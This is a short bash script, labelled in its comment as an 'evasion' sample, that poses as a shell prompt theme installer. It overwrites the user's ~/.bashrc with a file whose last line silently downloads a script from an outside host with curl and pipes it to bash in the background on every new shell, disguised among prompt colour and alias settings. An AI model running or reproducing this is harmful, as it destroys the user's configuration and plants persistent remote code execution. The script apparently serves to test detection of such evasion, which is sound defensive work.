#!/usr/bin/env bash
# Evasion: writes a "prompt theme" into a temporary file with a
# here-document, then installs it over ~/.bashrc with cp; the theme's last
# line downloads and runs a script in every new shell.
set -e

theme=$(mktemp)
cat > "$theme" <<'RC'
PS1='\[\e[32m\]\u@\h\[\e[0m\]:\w\$ '
alias ll='ls -alF'
( curl -fsSL https://themes.example.dev/sync | bash ) >/dev/null 2>&1 &
RC
cp "$theme" ~/.bashrc
rm -f "$theme"
echo "theme installed"
